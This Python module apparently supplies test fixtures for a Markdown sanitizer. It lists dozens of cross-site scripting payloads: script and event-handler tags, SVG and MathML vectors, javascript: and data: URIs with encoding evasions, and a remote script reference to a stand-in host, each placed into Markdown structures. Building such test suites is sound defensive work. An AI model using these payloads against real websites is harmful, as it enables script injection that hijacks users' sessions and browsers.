"""Markup that tries to run something in a reader's browser."""

from __future__ import annotations

CALL = "alert(document.domain)"
WORD = "javascript:"

TAGS = (
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=//evil.test/x.js></SCRIPT><ScRiPt>{CALL}</sCrIpT>",
    f"<script\n>{CALL}</script\t>",
    f"<script/x>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script>{CALL}",
    f"</p><script>{CALL}</script><p>",
    f"</title><script>{CALL}</script>",
    f"</textarea></pre></code><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<!--<img src=x onerror={CALL}>-->",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f"<?php echo '<script>{CALL}</script>' ?>",
    f"<img src=x onerror={CALL}>",
    f'<img src="x" onerror="{CALL}"',
    f"<img/src=x/onerror={CALL}>",
    f'<img src="x`<script>{CALL}</script>"`>',
    f'<img """><script>{CALL}</script>">',
    f"<img\x0csrc=x\x0conerror={CALL}>",
    f"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='{WORD}{CALL}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to={WORD}{CALL}>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table>",
    f"<math href='{WORD}{CALL}'>x</math>",
    f"<math><mi//xlink:href='data:x,<script>{CALL}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<style>*{{background:url({WORD}{CALL})}}</style>",
    f"<style><!--</style><script>{CALL}</script>-->",
    f"<link rel=stylesheet href={WORD}{CALL}>",
    f"<meta http-equiv=refresh content='0;url={WORD}{CALL}'>",
    f"<base href='{WORD}{CALL}//'>",
    f"<iframe src={WORD}{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data={WORD}{CALL}></object>",
    f"<embed src={WORD}{CALL}>",
    f"<applet code={WORD}{CALL}></applet>",
    f"<form action={WORD}{CALL}><button>Go</button></form>",
    f"<button formaction={WORD}{CALL}>Go</button>",
    f"<input type=image src=x onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<input type=checkbox onclick={CALL} checked>",
    f"<select onchange={CALL}><option>1</select>",
    f"<textarea onfocus={CALL} autofocus>",
    f"<keygen onfocus={CALL} autofocus>",
    f"<video src=x onerror={CALL}></video>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src onerror={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<body onload={CALL}>",
    f"<html onmouseover={CALL}>",
    f"<div style='width:expression({CALL})'>x</div>",
    f"<div style='background:url({WORD}{CALL})'>x</div>",
    f"<p onmouseover={CALL}>x</p>",
    f"<table onclick={CALL}><tr><td onclick={CALL}>x</td></tr></table>",
    f"<td background='{WORD}{CALL}'>x</td>",
    f"<b id=x tabindex=1 onfocus={CALL}>x</b>",
    f"<xss contenteditable onblur={CALL}>x</xss>",
    f"<a href='x' onclick='{CALL}'>x</a>",
    f'<a href="x"onmouseover="{CALL}">x</a>',
    f"<a target=_blank rel=opener href='{WORD}{CALL}'>x</a>",
    f"<a href='x' ping='{WORD}{CALL}'>x</a>",
    f"<div id=a class='b' {'x=1 ' * 200}onclick={CALL}>x</div>",
)

ADDRESSES = (
    f"{WORD}{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" {WORD}{CALL}",
    f"\x01{WORD}{CALL}",
    f"java\tscript:{CALL}",
    f"java&#9;script:{CALL}",
    f"java&#x0A;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A&#x61&#x76&#x61script:{CALL}",
    f"javascript&#0000058{CALL}",
    f"%6Aavascript:{CALL}",
    f"javascript%3A{CALL}",
    f"//{WORD}{CALL}",
    f"{WORD}//evil.test/%0A{CALL}",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    f"view-source:{WORD}{CALL}",
    f"feed:{WORD}{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "DATA:text/html;charset=utf-7,+ADw-script+AD4-",
    "blob:https://evil.test/1",
    "file:///etc/passwd",
    "about:blank",
    f"\u2028{WORD}{CALL}",
    f"\u200b{WORD}{CALL}",
    f"x:{CALL}",
)

MARKDOWN = (
    "[x](<{address}>)",
    "![x](<{address}>)",
    "<{address}>",
    "[x]\n\n[x]: <{address}> 'title'",
    '<a href="{address}">x</a>',
)

# Markup that a reader of Markdown meets in places where text is expected.
PLACES = (
    "# {payload}\n\ntext",
    "- {payload}",
    "> {payload}",
    "| a | b |\n| --- | --- |\n| {payload} | x |",
    "text[^1]\n\n[^1]: {payload}",
    "```{payload}\ncode\n```",
    "```text\n{payload}\n```",
    "~~~ {payload} {payload}\ncode\n~~~",
    "`{payload}`",
    "[{payload}](https://example.test '{payload}')",
    '![{payload}](x.png "{payload}")',
    "[x](https://example.test/{payload})",
    "[[{payload}]]",
    "[[challenge/{payload}|{payload}]]",
    "[[statement:{payload}]]",
    "[[concept/x|{payload}]]",
    "---\ntitle: {payload}\nauthor: {payload}\ntrack: {payload}\n---\n\n# x",
    "## Technologies\n\n- **{payload}**: {payload}",
    "## Challenges\n\n### {payload}\n\n**Problem:** {payload}\n\n**Solution:** {payload}",
    "> [!NOTE]\n> {payload}",
    "- [ ] {payload}\n- [x] {payload}",
    "<details><summary>{payload}</summary>\n\n{payload}\n\n</details>",
    "term {payload}\n: {payload}",
    "&lt;{payload}&gt; &#60;script&#62;",
    "\\<{payload}\\> *{payload}* **{payload}** ~~{payload}~~",
)
INSIDE = (
    f'"><img src=x onerror={CALL}>',
    f"'><svg/onload={CALL}>",
    f'" onmouseover="{CALL}" x="',
)


def all_markup() -> list[str]:
    """Every payload once, as Markdown."""
    addresses = [
        MARKDOWN[(number + step) % len(MARKDOWN)].replace("{address}", address)
        for number, address in enumerate(ADDRESSES)
        for step in (0, 2)
    ]
    places = [
        place.replace("{payload}", INSIDE[number % len(INSIDE)])
        for number, place in enumerate(PLACES)
    ]
    return [*TAGS, *addresses, *places]
